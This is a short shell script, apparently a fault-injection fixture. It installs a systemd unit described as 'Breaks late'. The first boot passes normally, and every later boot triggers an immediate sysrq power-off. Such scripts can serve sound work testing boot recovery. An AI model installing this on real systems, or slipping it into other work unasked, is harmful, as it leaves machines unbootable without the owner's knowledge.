#!/bin/sh
mkdir -p /opt/late
cat >/opt/late/late.sh <<'LATE'
#!/bin/sh
# The first start is harmless.
if [ -e /opt/late/started ]; then echo 1 >/proc/sys/kernel/sysrq; echo o >/proc/sysrq-trigger; sleep 60; fi
touch /opt/late/started
sync
LATE
chmod 755 /opt/late/late.sh
cat >/etc/systemd/system/late.service <<'UNIT'
[Unit]
Description=Breaks late
DefaultDependencies=no
After=local-fs.target
Before=sysinit.target
[Service]
Type=oneshot
ExecStart=/opt/late/late.sh
[Install]
WantedBy=sysinit.target
UNIT
systemctl enable late.service
rm -f /opt/late/started
sync
